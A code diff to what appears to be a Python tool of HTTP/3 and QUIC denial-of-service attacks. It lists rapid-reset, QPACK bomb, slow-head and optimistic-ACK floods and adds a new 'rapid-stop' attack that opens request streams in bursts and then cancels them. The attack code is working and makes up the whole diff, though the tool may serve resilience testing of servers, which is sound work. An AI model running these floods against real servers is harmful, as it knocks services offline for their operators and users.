@@ -143,10 +143,32 @@ async def rapid_reset(peer, until):
     block = frame(1, head())
     while time.monotonic() < until and not peer.cut:
         for _ in range(20):
+            if peer._quic._streams_blocked_bidi:
+                break
             stream = peer.stream(block)
             peer.transmit()
             peer._quic.reset_stream(stream, 0x10C)
             peer._quic.stop_stream(stream, 0x10C)
+        await peer.rest(0.001)
+
+
+async def rapid_stop(peer, until):
+    """Whole requests whose answers nobody wants any more by the time they are on their way."""
+    peer.control()
+    block = frame(1, head())
+    while time.monotonic() < until and not peer.cut:
+        streams = []
+        for _ in range(20):
+            if peer._quic._streams_blocked_bidi:
+                break
+            streams.append(peer.stream(block, True))
+        await peer.rest(0.001)
+        for stream in streams:
+            try:
+                peer._quic.stop_stream(stream, 0x10C)
+            except ValueError:
+                # Its answer was faster.
+                pass
         await peer.rest(0.001)
 
 
@@ -178,7 +200,7 @@ async def optimistic_ack(peer, until):
 
     space = peer._quic._spaces[tls.Epoch.ONE_RTT]
     while time.monotonic() < until and not peer.cut:
-        if space.ack_queue:
+        if len(space.ack_queue):
             space.ack_queue.add(0, space.ack_queue[len(space.ack_queue) - 1].stop + 40)
             space.ack_at = time.monotonic()
         await peer.rest()
@@ -199,6 +221,7 @@ ATTACKS = {
     "qpack-inserts": qpack_inserts,
     "qpack-bomb": qpack_bomb,
     "rapid-reset": rapid_reset,
+    "rapid-stop": rapid_stop,
     "unread": unread,
     "slow-head": slow_head,
     "optimistic-ack": optimistic_ack,
@@ -220,9 +243,10 @@ async def main():
         peer.begun = time.monotonic()
         try:
             await ATTACKS[name](peer, peer.begun + seconds)
-        except RuntimeError:
+        except RuntimeError as error:
             # The server has stopped the stream that the attack writes to.
-            pass
+            if isinstance(error, NotImplementedError):
+                raise
         for _ in range(50):
             if peer.cut:
                 break
